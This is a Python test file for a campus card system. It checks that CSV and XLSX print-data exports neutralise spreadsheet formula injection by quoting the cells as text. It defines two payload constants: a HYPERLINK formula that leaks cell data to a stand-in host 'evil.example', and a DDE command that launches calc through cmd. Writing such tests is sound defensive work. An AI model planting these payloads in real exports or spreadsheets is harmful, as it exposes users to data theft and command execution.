"""Exports are formula-safe: a name a teacher typed as a formula reaches the card center's print
data (CSV and XLSX) as text that a spreadsheet shows and never runs."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
from openpyxl import load_workbook

from campuscard.config import Settings
from tests.support import login
from tests.support_issuing import apply_at_counter, make_counter_campus

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
EVIL_CLASS = "=cmd|' /C calc'!A0"


async def test_print_data_exports_neutralise_formulas(
    client: httpx.AsyncClient, pool: Any, settings: Settings
) -> None:
    # given: a counter application in the production queue, then the student's name and class
    # edited into formulas
    async with pool.acquire() as conn:
        campus = await make_counter_campus(conn)
    r = await apply_at_counter(client, campus, "apply-formula-1")
    assert r.status_code == 201, r.text
    async with pool.acquire() as conn:
        await conn.execute("UPDATE persons SET name = $1 WHERE number = '2026000001'", EVIL_NAME)
        await conn.execute(
            "UPDATE classes SET name = $1 WHERE id = "
            "(SELECT class_id FROM persons WHERE number = '2026000001')",
            EVIL_CLASS,
        )
    staff = await login(client, "teacher-iss", campus.code)
    base = f"/api/v1/admin/schools/{campus.code}/card-production/export"

    # when: the card center exports the print data
    as_csv = await client.get(f"{base}?format=csv", headers=staff)
    as_xlsx = await client.get(f"{base}?format=xlsx", headers=staff)

    # then: in the CSV, each cell starts with an apostrophe, not with the formula
    row = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))[1]
    assert row[1] == "'" + EVIL_NAME
    assert row[4] == "'" + EVIL_CLASS
    # and in the XLSX the cells are text (type "s"), quoted too: no formula in the file
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    name, klass = sheet.cell(row=2, column=2), sheet.cell(row=2, column=5)
    assert (name.value, name.data_type) == ("'" + EVIL_NAME, "s")
    assert (klass.value, klass.data_type) == ("'" + EVIL_CLASS, "s")
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
